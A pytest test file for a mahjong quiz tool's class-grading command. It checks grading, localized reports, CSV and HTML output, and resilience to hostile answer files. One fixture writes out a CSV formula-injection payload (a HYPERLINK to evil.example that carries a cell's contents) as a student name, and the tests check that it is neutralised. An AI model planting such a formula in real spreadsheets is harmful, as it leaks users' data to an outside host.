"""``mjlearn quiz grade``: a class's answer files (the quiz widget's "download my answers")
graded by the engine again; the report agrees with ``check`` on every answer, names each
mistake by its misconception, and sets aside (with a clear, localized line) the files
that cannot be graded while grading the others."""

import csv
import html
import io
import json

import pytest

from mjlearn.cli import main
from mjlearn.exercises import check, expected_answer, skills_of
from mjlearn.exercises.store.answer_files import QuizSpec, answers_json, grade_class
from mjlearn.i18n import render_error, render_step
from mjlearn.errors import MjlearnError
from mjlearn.trace import step
from mjlearn.widgets import QuizWidget
from tests.widget_cases import a_wrong_answer, typed

SEED, KINDS, COUNT = 7, ("count_fu", "hand_payments", "name_yaku"), 2
SPEC = QuizSpec(SEED, KINDS, COUNT)
QUESTIONS = SPEC.questions()
ARGS = ["quiz", "grade", "--seed", str(SEED), "--kinds", ",".join(KINDS), "--count", str(COUNT)]


def right(q):
    return typed(q, expected_answer(q))


def wrong(q):
    return typed(q, a_wrong_answer(q, recognised=True))


def class_files(tmp_path):
    """Five students and four files that cannot be graded."""
    students = {
        "ana": [right(q) for q in QUESTIONS],
        "bruno": [wrong(q) for q in QUESTIONS],
        "chiara": [right(q) if i % 2 else wrong(q) for i, q in enumerate(QUESTIONS)],
        # two questions left out (one empty, one missing at the end), one unreadable
        "dmitri": [right(QUESTIONS[0]), "", "thirty", *map(right, QUESTIONS[3:5])],
        "ewa": [wrong(q) if i == 1 else right(q) for i, q in enumerate(QUESTIONS)],
    }
    for name, answers in students.items():
        lang = {"ana": "es", "bruno": "it", "chiara": "it", "dmitri": "ru", "ewa": "pl"}[name]
        (tmp_path / f"{name}.json").write_text(answers_json(SPEC, lang, name.title(), answers))
    (tmp_path / "broken.json").write_text('{"format": "mjlearn-quiz-answers", "answ')
    (tmp_path / "notes.json").write_text(json.dumps({"shopping": ["rice"]}))
    (tmp_path / "other-seed.json").write_text(
        answers_json(QuizSpec(8, KINDS, COUNT), "en", "Zoe", students["ana"]))
    (tmp_path / "other-kinds.json").write_text(
        answers_json(QuizSpec(SEED, ("count_fu",), COUNT), "en", "Yan", students["ana"][:2]))
    return students


def engine_says(answers, lang):
    """What ``check`` says of each answer: a verdict, or None (missing or unreadable)."""
    out = []
    for q, answer in zip(QUESTIONS, answers + [None] * (len(QUESTIONS) - len(answers))):
        try:
            out.append(check(q, answer, lang) if answer else None)
        except MjlearnError:
            out.append(None)
    return out


def test_every_answer_is_graded_as_the_engine_says(tmp_path):
    students = class_files(tmp_path)
    files = sorted(tmp_path.glob("*.json"))
    report = grade_class([(f.name, f.read_bytes()) for f in files], SPEC)
    assert [s.name for s in report.students] == ["Ana", "Bruno", "Chiara", "Dmitri", "Ewa"]
    for student in report.students:
        verdicts = engine_says(students[student.name.lower()], student.lang)
        assert [e.correct for e in student.report.entries] == \
            [bool(v and v.correct) for v in verdicts]
        assert [e.verdict and e.verdict.misconception for e in student.report.entries] == \
            [v and v.misconception for v in verdicts]
    ana, bruno, _chiara, dmitri, _ewa = report.students
    assert (ana.correct, ana.total) == (6, 6) and bruno.correct == 0
    assert dmitri.missing == (2, 6) and [n for n, *_ in dmitri.unreadable] == [3]
    assert sorted(e.code for e in report.rejected) == \
        ["answers_not_quiz", "answers_other_questions", "answers_other_version",
         "answers_unreadable"]


def test_rates_per_question_and_per_skill(tmp_path):
    class_files(tmp_path)
    report = grade_class([(f.name, f.read_bytes()) for f in sorted(tmp_path.glob("*.json"))],
                         SPEC)
    rates = report.question_rates()
    for n, rate in enumerate(rates):
        assert rate.total == 5
        assert rate.right == sum(s.report.entries[n].correct for s in report.students)
    # a skill counts a right answer for every skill of its question, a recognised mistake
    # for its own skill only
    expected: dict[str, list[int]] = {}
    for s in report.students:
        for entry in s.report.entries:
            v = entry.verdict
            skills = (v.skill,) if v and not v.correct and v.skill else skills_of(entry.key.question)
            for skill in skills:
                expected.setdefault(skill, [0, 0])
                expected[skill][0] += entry.correct
                expected[skill][1] += 1
    assert {r.key: [r.right, r.total] for r in report.skill_rates()} == expected


def test_the_report_names_each_mistake_and_each_file_set_aside(tmp_path, capsys):
    students = class_files(tmp_path)
    files = [str(f) for f in sorted(tmp_path.glob("*.json"))]
    assert main([*ARGS, "--lang", "pl", *files]) == 0
    out = capsys.readouterr().out
    assert out.startswith(render_step(step("grade.title", seed=SEED), "pl"))
    assert render_step(step("grade.student", name="Ana", correct=6, count=6), "pl") in out
    bruno = engine_says(students["bruno"], "it")
    for n, verdict in enumerate(bruno, 1):
        if verdict.misconception:       # the misconception, as the widget would word it,
            said = render_step(step(verdict.misconception, **verdict.params), "pl")
            # quoted for the teacher: what the engine tells the student
            assert render_step(step("grade.feedback", feedback=said.rstrip(".")), "pl") in out
    assert render_step(step("grade.missing", number=6), "pl") in out
    assert render_step(step("grade.unreadable", number=3), "pl") in out
    # the options typed must agree with each file: the two of another quiz say which
    for code, params in (("answers_unreadable", {"file": "broken.json"}),
                         ("answers_not_quiz", {"file": "notes.json"}),
                         ("answers_disagree", {"file": "other-seed.json", "option": "--seed",
                                               "found": "8", "given": "7"}),
                         ("answers_disagree", {"file": "other-kinds.json",
                                               "option": "--kinds", "found": "count_fu",
                                               "given": ",".join(KINDS)})):
        assert render_error(MjlearnError(code, **params), "pl") in out
    assert "Traceback" not in out and "answers_" not in out and "grade." not in out


def test_csv_gradebook_and_html_chart(tmp_path, capsys):
    class_files(tmp_path)
    files = [str(f) for f in sorted(tmp_path.glob("*.json"))]
    assert main([*ARGS, "--csv", "--lang", "it", *files]) == 0
    captured = capsys.readouterr()
    rows = list(csv.reader(io.StringIO(captured.out)))
    assert rows[0][:4] == ["Nome", "Nome del file", "Giuste", "Domande"] and len(rows[0]) == 4 + 6
    assert rows[1] == ["Ana", "ana.json", "6", "6", "1", "1", "1", "1", "1", "1"]
    assert rows[2][:4] == ["Bruno", "bruno.json", "0", "6"]
    assert len(rows) == 6
    assert captured.err.count("\n") == 4           # the files set aside, beside the table
    assert main([*ARGS, "--html", "--lang", "ru", *files]) == 0
    page = capsys.readouterr().out
    assert page.startswith("<!DOCTYPE html>") and '<html lang="ru">' in page
    assert page.count("<svg") == 2 and page.count('class="mjlearn-bar"') == 6 + len(
        grade_class([(f, open(f, "rb").read()) for f in files], SPEC).skill_rates())


def test_nothing_graded_is_said_and_is_not_an_error(tmp_path, capsys):
    (tmp_path / "x.json").write_text("[]")
    assert main([*ARGS, "--lang", "es", str(tmp_path / "x.json"), str(tmp_path / "gone.json")]) == 0
    out = capsys.readouterr().out
    assert render_step(step("grade.graded", count=0), "es") in out
    assert render_error(MjlearnError("answers_unreadable", file="gone.json"), "es") in out


def test_the_widget_download_is_what_the_grader_reads():
    w = QuizWidget(list(KINDS), seed=SEED, count=COUNT, lang="it", store=None)
    for i, q in enumerate(QUESTIONS):
        w.answer.value = right(q) if i % 3 else wrong(q)
        w.check_button.click()
        w.next_button.click()
    assert w.finished and w.download_box.layout.display == "flex"
    w.name_box.value = "Giulia Rossi"
    file, text = w.answers_file()
    assert file == "mjlearn-quiz-7-giulia-rossi.json"
    data = json.loads(text)
    assert (data["seed"], data["kinds"], data["count"], data["ruleset"], data["language"],
            data["name"]) == (SEED, list(KINDS), COUNT, "standard", "it", "Giulia Rossi")
    assert data["answers"] == [right(q) if i % 3 else wrong(q) for i, q in enumerate(QUESTIONS)]
    assert "score" not in text and "correct" not in text
    report = grade_class([(file, text)], SPEC)
    (student,) = report.students
    assert [e.correct for e in student.report.entries] == \
        [e.correct for e in w.test.report().entries]
    # the link carries the same file
    assert f'download="{file}"' in w.download_link.value


@pytest.mark.parametrize("lang", ["en", "es", "it", "pl", "ru"])
def test_the_download_speaks_the_learner_language(lang):
    from mjlearn.widgets.labels import label

    w = QuizWidget(["count_fu"], seed=3, count=1, lang=lang, store=None)
    assert w.download_box.layout.display == "none"
    w.answer.value = "30"
    w.check_button.click()
    w.next_button.click()
    assert html.escape(label("quiz_download", lang)) in w.download_link.value
    assert html.escape(label("quiz_download_help", lang)) in w.download_help.value
    assert w.name_box.placeholder == label("quiz_name", lang)


def test_a_speed_round_offers_no_answer_file():
    """A speed round draws its own questions (not ``mjlearn quiz``'s for its options), so
    a file naming it by those options would be graded against other questions: none is
    offered."""
    from mjlearn.widgets import SpeedRound

    w = SpeedRound(seed=3, count=2, store=None, lang="pl")
    for _ in w.questions:
        w.answer.value = "1"
        w.check_button.click()
        w.next_button.click()
    assert w.finished and w.spec is None
    assert w.download_box.layout.display == "none" and w.download_link.value == ""


# --- a class of hostile files (issue 28): every good file is reported -------------------------

def hostile_class(tmp_path):
    """Three good students, and beside them every file the reliability report used to
    stop the grading with (and a few more)."""
    import os

    good = {"ana": [right(q) for q in QUESTIONS], "bruno": [wrong(q) for q in QUESTIONS],
            "chiara": [right(q) if i % 2 else "" for i, q in enumerate(QUESTIONS)]}
    for name, answers in good.items():
        (tmp_path / f"{name}.json").write_text(answers_json(SPEC, "es", name.title(), answers))
    hostile = tmp_path / "hostile"
    hostile.mkdir()
    (hostile / "deep.json").write_text("[" * 200_000)                         # RecursionError
    (hostile / "deep-object.json").write_text('{"format": "mjlearn-quiz-answers", "answers": '
                                              + "[" * 50 + "]" * 50 + "}")
    (hostile / "huge.json").write_bytes(b" " * (2 << 20) + b"{}")              # 2 MiB
    os.symlink("/dev/zero", hostile / "zero.json")                             # MemoryError
    os.mkfifo(hostile / "fifo.json")                                           # it hung
    os.symlink(tmp_path / "ana.json", hostile / "ana-link.json")               # a link
    (hostile / "folder.json").mkdir()
    surrogate = answers_json(SPEC, "pl", "Lou\ud800", good["ana"])             # --csv died
    (hostile / "lou.json").write_text(surrogate, errors="surrogatepass")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    (hostile / "formula.json").write_text(answers_json(SPEC, "it", formula, good["bruno"]))
    (hostile / "copy.json").write_bytes((tmp_path / "ana.json").read_bytes())  # same bytes
    (hostile / "xx.json").write_text(json.dumps({**json.loads(answers_json(
        SPEC, "en", "Xavier", good["bruno"])), "language": "xx"}))
    (hostile / "binary.json").write_bytes(b"\xff\xfe\x00garbage")
    return good, [str(tmp_path / f"{n}.json") for n in good] + [
        str(p) for p in sorted(hostile.iterdir())] + [str(tmp_path / "hostile" / ".." /
                                                          "ana.json")]          # ../ again


@pytest.mark.parametrize("output", ["text", "csv", "html"])
def test_a_class_of_hostile_files_is_graded_with_every_good_file_reported(tmp_path, capsys,
                                                                          output):
    good, files = hostile_class(tmp_path)
    flags = {"text": [], "csv": ["--csv"], "html": ["--html"]}[output]
    assert main(["quiz", "grade", "--lang", "es", *flags, *files]) == 0      # no option typed
    captured = capsys.readouterr()
    out, err = captured.out, captured.err
    (out + err).encode("utf-8")                                              # valid UTF-8
    assert "Traceback" not in out + err
    if output == "csv":
        rows = list(csv.reader(io.StringIO(out)))
        names = [r[0] for r in rows[1:]]
        assert names[:3] == ["Ana", "Bruno", "Chiara"]
        # Lou's lone surrogate replaced, the formula neutralised, Xavier graded in English
        assert "Lou\ufffd" in names and "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")' \
            in names and "Xavier" in names and len(names) == 6
        ana, bruno, chiara = rows[1:4]
        assert ana[2:] == ["6", "6", "1", "1", "1", "1", "1", "1"]
        assert bruno[2:4] == ["0", "6"] and set(bruno[4:]) == {"0"}
        assert chiara[4:] == ["", "1", "", "1", "", "1"]                      # blank ≠ wrong
        assert rows[0][4] == "Pregunta 1 (contar los fu)"
        report = err
    else:
        report = out
        for name, correct in (("Ana", 6), ("Bruno", 0), ("Chiara", 3), ("Xavier", 0)):
            line = render_step(step("grade.student", name=name, correct=correct, count=6), "es")
            assert html.escape(line, quote=False) in out
    # every file set aside is named in its own line, with its reason
    expected = [("answers_unreadable", {"file": "deep.json"}),
                ("answers_unreadable", {"file": "deep-object.json"}),
                ("answers_too_large", {"file": "huge.json", "maximum": 1 << 20}),
                ("answers_not_regular", {"file": "zero.json"}),
                ("answers_not_regular", {"file": "fifo.json"}),
                ("answers_not_regular", {"file": "ana-link.json"}),
                ("answers_not_regular", {"file": "folder.json"}),
                ("answers_duplicate", {"file": "copy.json", "other": files[0]}),
                ("answers_unreadable", {"file": "binary.json"})]
    for code, params in expected:
        line = render_error(MjlearnError(code, **params), "es")
        assert (html.escape(line, quote=False) if output == "html" else line) in report, code
    # the same file again through ../ is graded once
    again = render_error(MjlearnError("answers_duplicate", file=files[-1], other=files[0]), "es")
    assert (html.escape(again, quote=False) if output == "html" else again) in report


def test_a_teacher_s_options_must_agree_with_each_file(tmp_path, capsys):
    good, _files = hostile_class(tmp_path)
    files = [str(tmp_path / f"{n}.json") for n in good]
    # the whole class with --count 1 left out: graded (the report had set all of it aside)
    assert main(["quiz", "grade", "--seed", str(SEED), "--lang", "pl", *files]) == 0
    out = capsys.readouterr().out
    assert render_step(step("grade.graded", count=3), "pl") in out
    assert main(["quiz", "grade", "--count", "1", "--lang", "pl", *files]) == 0
    out = capsys.readouterr().out
    assert render_step(step("grade.graded", count=0), "pl") in out
    assert render_error(MjlearnError("answers_disagree", file="ana.json", option="--count",
                                     found="2", given="1"), "pl") in out


def test_two_files_with_one_name_are_both_graded_and_named(tmp_path, capsys):
    first = tmp_path / "a" / "same.json"
    second = tmp_path / "b" / "same.json"
    for path, answers in ((first, [right(q) for q in QUESTIONS]),
                          (second, [wrong(q) for q in QUESTIONS])):
        path.parent.mkdir()
        path.write_text(answers_json(SPEC, "en", "Judy", answers))
    assert main(["quiz", "grade", "--lang", "en", str(first), str(second)]) == 0
    out = capsys.readouterr().out
    for path, correct in ((first, 6), (second, 0)):
        name = render_step(step("grade.student_file", name="Judy", file=str(path)), "en")
        assert render_step(step("grade.student", name=name, correct=correct, count=6),
                           "en") in out
    assert render_step(step("grade.same_name", name="Judy",
                            files=f"{first}, {second}"), "en") in out


def test_the_report_speaks_to_the_teacher_in_spanish(tmp_path, capsys):
    good, _files = hostile_class(tmp_path)
    assert main(["quiz", "grade", "--lang", "es", str(tmp_path / "bruno.json")]) == 0
    out = capsys.readouterr().out
    # the engine's words to the student are quoted as such; the report's own lines speak
    # of the student in the third person
    assert "El motor le dice al alumno: «" in out
    for line in out.splitlines():
        if line.strip().startswith("Pregunta") and "respondió" in line:
            head = line.split("El motor le dice al alumno:")[0]
            assert not any(word in head.split() for word in ("Has", "Te", "tú", "tu"))
    assert "Pregunta 1 (contar los fu): la acertó 0 de 1 alumno" in out
